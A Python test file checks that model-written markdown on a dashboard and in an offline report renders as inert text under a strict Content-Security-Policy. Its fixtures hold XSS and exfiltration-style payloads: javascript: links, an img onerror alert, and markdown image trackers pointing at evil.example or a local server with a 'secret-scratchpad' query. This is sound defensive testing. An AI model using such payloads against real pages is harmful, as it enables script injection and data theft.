"""What models write cannot reach out: no images or links in rendered wisdom, and a
Content-Security-Policy on the dashboard (header) and the offline report (meta tag) that
allows only the page's own scripts, styles and data."""

from __future__ import annotations

import base64
import hashlib
import http.server
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import redis
import uvicorn
from fastapi.testclient import TestClient
from pydantic import SecretStr

from ops import dashboard
from ops.embedded import free_port
from ops.http import create_app
from schemas.settings import Settings
from schemas.wisdom import Heuristic, Wisdom
from state import store
from tests.browser import CHROMIUM, DRIVER, MISSING, chrome
from tests.services import wait_until

IMAGE_URL = "http://127.0.0.1:{port}/pixel.png?q=secret-scratchpad"
MALICIOUS = ("Trust me. ![tracker]({image}) and [click here](javascript:alert(1)) and "
             "<https://evil.example/auto> and <img src={image} onerror=alert(2)> "
             "and [ref][r]\n\n[r]: javascript:alert(3)\n")


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of inline scripts and styles."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.inline: list[tuple[str, dict[str, str | None], str]] = []
        self._open: tuple[str, dict[str, str | None]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in ("script", "style"):
            self._open = (tag, dict(attrs))
            self.inline.append((tag, dict(attrs), ""))

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            tag, attrs, text = self.inline[-1]
            self.inline[-1] = (tag, attrs, text + data)

    def handle_endtag(self, tag: str) -> None:
        if self._open is not None and tag == self._open[0]:
            self._open = None


def parse(page: str) -> Elements:
    parser = Elements()
    parser.feed(page)
    return parser


def malicious_wisdom(port: int = 9) -> Wisdom:
    text = MALICIOUS.format(image=IMAGE_URL.format(port=port))
    return Wisdom(version=1, created_at=time.time(), episodes_seen=3, reasoner="model",
                  intuitions=text, warnings=[f"see ![w]({IMAGE_URL.format(port=port)})"],
                  heuristics=[Heuristic(condition="always", adjustment="[go](javascript:x)",
                                        rationale="![r](http://evil.example/r.png)")])


def assert_inert(fragment: str) -> None:
    """No element of ``fragment`` can make the browser fetch or navigate anywhere."""
    tags = parse(fragment).tags
    assert not [t for t, _ in tags if t in ("img", "a", "script", "iframe", "link", "style")], tags
    assert not [a for _, a in tags if {"src", "href", "onerror", "style"} & set(a)], tags
    assert "javascript:" not in re.sub(r">[^<]*<", "><", fragment)  # only ever as text


def test_model_written_images_and_links_render_as_text() -> None:
    rendered = dashboard._markdown(MALICIOUS.format(image="http://evil.example/i.png?q=s"))
    assert_inert(rendered)
    # still readable: the URLs are shown as text
    assert "http://evil.example/i.png?q=s" in rendered and "javascript:alert(1)" in rendered
    assert "&lt;img src=" in rendered  # raw HTML escaped, as before
    # ordinary markdown still renders
    assert "<strong>bold</strong>" in dashboard._markdown("**bold**")


def test_the_dashboard_data_and_report_hold_no_live_element(
    client: redis.Redis, settings: Settings
) -> None:
    store.save_wisdom(client, malicious_wisdom(), consumed=0, keep=5)
    data = dashboard.collect(client, settings)
    assert "secret-scratchpad" in data.wisdom_html  # shown, as text
    assert_inert(data.wisdom_html)

    page = dashboard.render(data, live=False)
    elements = parse(page)
    assert not [t for t, _ in elements.tags if t in ("img", "a", "iframe", "link")]
    assert not [a for _, a in elements.tags if {"src", "href", "style"} & set(a)]
    # the policy comes first in <head>, before any script or style it governs
    metas = [a for t, a in elements.tags if t == "meta" and a.get("http-equiv")]
    assert [m["http-equiv"] for m in metas] == ["Content-Security-Policy"]
    policy = str(metas[0]["content"])
    assert page.index("Content-Security-Policy") < min(page.index("<script"), page.index("<style"))
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'" and directives["connect-src"] == "'none'"
    assert "unsafe-inline" not in policy and "http" not in policy
    # every inline script and style is allowed by its hash, and nothing else is
    executable = [(tag, text) for tag, attrs, text in elements.inline
                  if attrs.get("type") != "application/json"]
    assert [tag for tag, _ in executable] == ["style", "script", "script"]
    hashes = {tag: {_sha256(text) for t, text in executable if t == tag}
              for tag in ("script", "style")}
    assert set(directives["script-src"].split()) == hashes["script"]
    assert set(directives["style-src"].split()) == hashes["style"]


@pytest.fixture
def api(settings: Settings, client: redis.Redis) -> Iterator[TestClient]:
    with TestClient(create_app(settings.model_copy(
            update={"api_token": SecretStr("t0ken")}))) as http:
        yield http


def test_the_dashboard_is_served_with_its_policy_and_no_inline_code(api: TestClient,
                                                                    client: redis.Redis) -> None:
    store.save_wisdom(client, malicious_wisdom(), consumed=0, keep=5)
    page = api.get("/dashboard?token=t0ken")
    assert page.status_code == 200
    assert page.headers["content-security-policy"] == dashboard.CSP
    assert page.headers["referrer-policy"] == "no-referrer"
    policy = dict(d.strip().split(" ", 1) for d in dashboard.CSP.split(";"))
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'"
    assert policy["style-src"] == "'self'" and policy["img-src"] == "'self' data:"
    elements = parse(page.text)
    # no inline code for the policy to allow: scripts and styles are the page's own files
    inline = [(tag, attrs) for tag, attrs, text in elements.inline
              if "src" not in attrs and attrs.get("type") != "application/json"]
    assert inline == []
    assert not [a for _, a in elements.tags if "style" in a or any(k.startswith("on") for k in a)]
    assets = [a.get("src") or a.get("href") for t, a in elements.tags
              if t == "link" or (t == "script" and "src" in a)]
    assert sorted(str(u).split("?")[0] for u in assets) == [
        "/dashboard/static/chart.umd.min.js", "/dashboard/static/dashboard.css",
        "/dashboard/static/dashboard.js"]
    for url in assets:
        asset = api.get(str(url).replace("&amp;", "&"))
        assert asset.status_code == 200 and asset.headers["content-security-policy"]
        assert "text/javascript" in asset.headers["content-type"] or \
            "text/css" in asset.headers["content-type"]
    assert api.get("/dashboard/static/dashboard.html?token=t0ken").status_code == 404
    assert api.get("/dashboard/static/dashboard.js").status_code == 401
    data = api.get("/v1/dashboard/data", headers={"authorization": "Bearer t0ken"})
    assert data.headers["content-security-policy"] == dashboard.CSP
    assert_inert(data.json()["wisdom_html"])


def _sha256(source: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode() + "'"


# --- in a real browser -----------------------------------------------------------------



@contextmanager
def serving(settings: Settings) -> Iterator[str]:
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(settings), host="127.0.0.1", port=port,
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    wait_until(lambda: server.started, 20, "the API to start")
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


@contextmanager
def tracker() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server that records every request: where a leak would arrive."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()


@pytest.mark.skipif(not (CHROMIUM and DRIVER),
                    reason=MISSING)
def test_in_a_real_browser_the_pages_work_under_their_policy_and_leak_nothing(
    settings: Settings, client: redis.Redis, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By

    def check(browser: Any) -> None:
        wait_until(lambda: browser.find_element(By.TAG_NAME, "body").get_attribute(
            "data-ready") == "1", 30, "the page drawn (its scripts ran under the policy)")
        wait_until(lambda: "secret-scratchpad" in browser.find_element(By.ID, "wisdom").text,
                   10, "the wisdom shown")
        wisdom = browser.find_element(By.ID, "wisdom")
        assert wisdom.find_elements(By.CSS_SELECTOR, "img, a, script, iframe") == []
        assert browser.execute_script("return window.ripmapCharts.ndcg !== undefined")
        violations = [e["message"] for e in browser.get_log("browser")
                      if "Content Security Policy" in e["message"]]
        assert violations == []

    with tracker() as (port, hits):
        store.save_wisdom(client, malicious_wisdom(port), consumed=0, keep=5)
        report = tmp_path / "report.html"
        report.write_text(dashboard.render(dashboard.collect(client, settings), live=False))
        browser = chrome(tmp_path / "profile", console_log=True)
        try:
            with serving(settings) as base:
                browser.get(base + "/dashboard")
                check(browser)
            browser.get(report.as_uri())
            check(browser)
            time.sleep(0.5)
        finally:
            browser.quit()
        assert hits == []
